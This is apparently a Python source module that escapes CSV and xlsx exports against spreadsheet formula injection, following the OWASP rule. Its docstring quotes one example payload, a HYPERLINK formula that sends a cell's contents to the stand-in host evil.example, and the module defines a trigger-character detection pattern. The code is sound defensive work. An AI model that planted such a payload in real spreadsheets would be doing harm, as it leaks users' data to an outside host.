"""Files a person opens (xlsx, csv): text is data, never a formula. The one rule, in one place.

Every writer of a spreadsheet or a CSV file for people (the kits, the catalogue CSV, the normalise
output; any later funder export) writes its cells through this module, so a title such as
``=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")`` or an organisation ``=1+1`` stays text.

**CSV** — the OWASP rule (CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection):

- a *text* cell whose first character is ``=``, ``+``, ``-``, ``@``, tab (0x09) or carriage
  return (0x0D) is written with a single quote ``'`` in front (``=1+1`` -> ``'=1+1``), so a
  spreadsheet reads it as text; nothing else in the cell changes;
- only text cells (polars ``String``, ``Categorical``, ``Enum``): numeric columns are numbers and
  are written as numbers, a negative one included (``-2.0`` in a score column stays ``-2.0``); a
  text that looks like a number (``"-1"`` in a title) is text, and is escaped;
- every text cell is enclosed in double quotes (an inner ``"`` doubled): a separator inside a cell
  (``,``, or the ``;`` on which a French spreadsheet splits) or a line break cannot start a new cell
  that would begin with ``=`` (OWASP's note on separators);
- column names follow the same rule (the normalise output is headed by the input's column name).

**xlsx** — every text cell is a string cell (xlsxwriter ``write_string``, never ``write``, which
reads ``"=..."`` as a formula and ``"http..."`` as a link), and the workbook is opened with
``strings_to_formulas``, ``strings_to_urls`` and ``strings_to_numbers`` off so that nothing slips
through another call. A string cell is never evaluated, so its text is kept exactly as given (no
quote added). Numbers are number cells, booleans boolean cells.

JSON and Parquet are typed data for programs and are written raw; HTML pages escape their text
with ``html.escape`` where they are built.
"""

from __future__ import annotations

import io
from datetime import date, datetime
from pathlib import Path
from typing import Any, Iterable

import polars as pl

from api.storage.files import atomic_path

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a CSV cell as a formula (OWASP)."""
ESCAPE = "'"
_TRIGGER_PATTERN = r"^[=+\-@\t\r]"
TEXT_DTYPES = (pl.String, pl.Categorical, pl.Enum)

WORKBOOK_OPTIONS: dict[str, Any] = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
    "nan_inf_to_errors": True,
}
"""xlsxwriter options of every workbook a person opens (see the module docstring)."""


# ---- CSV ---------------------------------------------------------------------------------------
def escape_csv_text(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet reads as a formula (the OWASP rule above)."""
    return ESCAPE + text if text.startswith(FORMULA_TRIGGERS) else text


def escape_csv_expr(column: str | pl.Expr) -> pl.Expr:
    """The vectorised rule on a text column: ``'`` in front of the cells that start with a trigger."""
    col = pl.col(column) if isinstance(column, str) else column
    return pl.when(col.str.contains(_TRIGGER_PATTERN)).then(pl.lit(ESCAPE) + col).otherwise(col)


def _is_text(dtype: pl.DataType) -> bool:
    return any(dtype == t or isinstance(dtype, t) for t in TEXT_DTYPES)


def csv_safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text column (and every column name) escaped; other columns unchanged.

    List and struct columns must be flattened to text by the caller first (CSV has no lists).
    """
    text = [name for name, dtype in frame.schema.items() if _is_text(dtype)]
    safe = frame.with_columns([escape_csv_expr(pl.col(c).cast(pl.String)).alias(c) for c in text])
    renames = {c: escape_csv_text(c) for c in safe.columns if escape_csv_text(c) != c}
    return safe.rename(renames) if renames else safe


def write_csv(frame: pl.DataFrame, target: str | Path | io.IOBase | None = None) -> str | None:
    """Write ``frame`` as CSV for people: the rule above, text cells quoted, numbers as numbers.

    ``target``: a path (written atomically: a reader never sees half a file), a file object, or
    ``None`` to get the text back.
    """
    safe = csv_safe_frame(frame)
    if target is None:
        return safe.write_csv(quote_style="non_numeric")
    if isinstance(target, (str, Path)):
        with atomic_path(target) as tmp:
            safe.write_csv(tmp, quote_style="non_numeric")
        return None
    safe.write_csv(target, quote_style="non_numeric")
    return None


# ---- xlsx --------------------------------------------------------------------------------------
def workbook(target: str | Path | io.BytesIO):
    """A new ``xlsxwriter.Workbook`` on ``target`` with :data:`WORKBOOK_OPTIONS`."""
    import xlsxwriter

    return xlsxwriter.Workbook(target, dict(WORKBOOK_OPTIONS))


def write_cell(sheet, row: int, column: int, value: Any, cell_format=None) -> None:
    """Write one cell by the value's type: text as a string cell (never a formula or a link),
    ``int``/``float`` as a number, ``bool`` as a boolean, a date as its ISO text; ``None`` leaves
    the cell empty."""
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, column, value, cell_format)
    elif isinstance(value, (int, float)):
        sheet.write_number(row, column, value, cell_format)  # NaN/inf: an error cell (nan_inf_to_errors)
    elif isinstance(value, (date, datetime)):
        sheet.write_string(row, column, value.isoformat(), cell_format)
    else:
        sheet.write_string(row, column, str(value), cell_format)


def write_row(sheet, row: int, first_column: int, values: Iterable[Any], cell_format=None) -> None:
    """:func:`write_cell` for each value, left to right from ``first_column``."""
    for offset, value in enumerate(values):
        write_cell(sheet, row, first_column + offset, value, cell_format)


__all__ = ["ESCAPE", "FORMULA_TRIGGERS", "WORKBOOK_OPTIONS", "csv_safe_frame", "escape_csv_expr",
           "escape_csv_text", "workbook", "write_cell", "write_csv", "write_row"]
